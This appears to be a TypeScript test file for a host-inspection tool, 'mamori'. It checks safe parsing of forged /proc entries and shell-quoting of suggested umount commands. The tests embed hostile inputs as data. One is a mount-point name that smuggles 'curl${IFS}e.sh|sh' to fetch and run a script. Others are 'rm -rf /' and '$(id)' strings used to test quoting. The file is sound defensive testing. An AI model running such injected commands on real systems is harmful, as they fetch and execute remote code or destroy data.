import assert from "node:assert/strict";
import { test } from "node:test";
import { PROC_READ_BYTES, readProcess } from "../../src/collect/proc/processes.ts";
import { RootFs } from "../../src/collect/rootfs.ts";
import { shellQuote } from "../../src/core/shell-quote.ts";
import { mamori } from "../helpers/cli.ts";
import { tempDir, writeTree } from "../helpers/tmp.ts";

const STAT =
  "1 (init) S 0 1 1 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 100 1000 100 0 0 0 0 0 0 0 0 0 0 0 0 0 17 0\n";

test("a forged /proc (a bundle or a fixture root): a 2 MB command line is read to 64 KiB, a __proto__ line is a field", (t) => {
  const dir = tempDir(t);
  writeTree(dir, {
    "proc/1/stat": STAT,
    "proc/1/cmdline": Buffer.concat([
      Buffer.from("/usr/bin/x\0"),
      Buffer.alloc(2_000_000, "A"),
      Buffer.from("\0"),
    ]),
    "proc/1/status":
      "Name:\tinit\n__proto__:\tz\nUid:\t1000\t1000\t1000\t1000\nGid:\t0\t0\t0\t0\nVmRSS:\t 12 kB\n",
  });
  const p = readProcess(new RootFs(dir), 1);
  assert.ok(p);
  assert.equal(p.argv[0], "/usr/bin/x");
  assert.ok(p.argv.join("\0").length <= PROC_READ_BYTES.cmdline, String(p.argv.join("").length));
  assert.ok((p.argv[1] ?? "").length > 60_000);
  assert.equal(p.uid, 1000);
  assert.equal(p.rssKb, 12);
});

test("a mount over /proc/PID named to run a command is quoted in the command mamori tells root to paste", async (t) => {
  const dir = tempDir(t);
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell variable is the attack
  const hostile = "/proc/1/x;curl${IFS}e.sh|sh";
  writeTree(dir, {
    "proc/1/stat": STAT,
    "proc/1/cmdline": "/sbin/init\0",
    "proc/1/status": "Name:\tinit\nUid:\t0\t0\t0\t0\n",
    // The kernel writes a space in a mount point as \040.
    "proc/self/mountinfo": `36 35 98:0 / ${hostile} rw - tmpfs none rw\n37 35 98:0 / /proc/1/a\\040b rw - tmpfs none rw\n`,
    "etc/passwd": "root:x:0:0:root:/root:/bin/sh\n",
  });
  const r = await mamori(["hunt", "--root", dir, "--format", "json"]);
  const report = JSON.parse(r.stdout) as { findings: { check: string; commands?: string[] }[] };
  const commands = report.findings
    .filter((f) => f.check === "process.hidden")
    .flatMap((f) => f.commands ?? []);
  assert.ok(commands.includes(`umount '${hostile}'`), JSON.stringify(commands));
  assert.ok(commands.includes("umount '/proc/1/a b'"), JSON.stringify(commands));
  assert.ok(!commands.some((c) => c.startsWith(`umount ${hostile}`)));
});

test("shellQuote leaves plain values plain and single-quotes the rest, quotes included", () => {
  assert.equal(shellQuote("/usr/local/apache2/bin/apachectl"), "/usr/local/apache2/bin/apachectl");
  assert.equal(shellQuote("apache2.service"), "apache2.service");
  assert.equal(shellQuote("x'; rm -rf / #"), `'x'\\''; rm -rf / #'`);
  assert.equal(shellQuote("$(id)"), "'$(id)'");
});
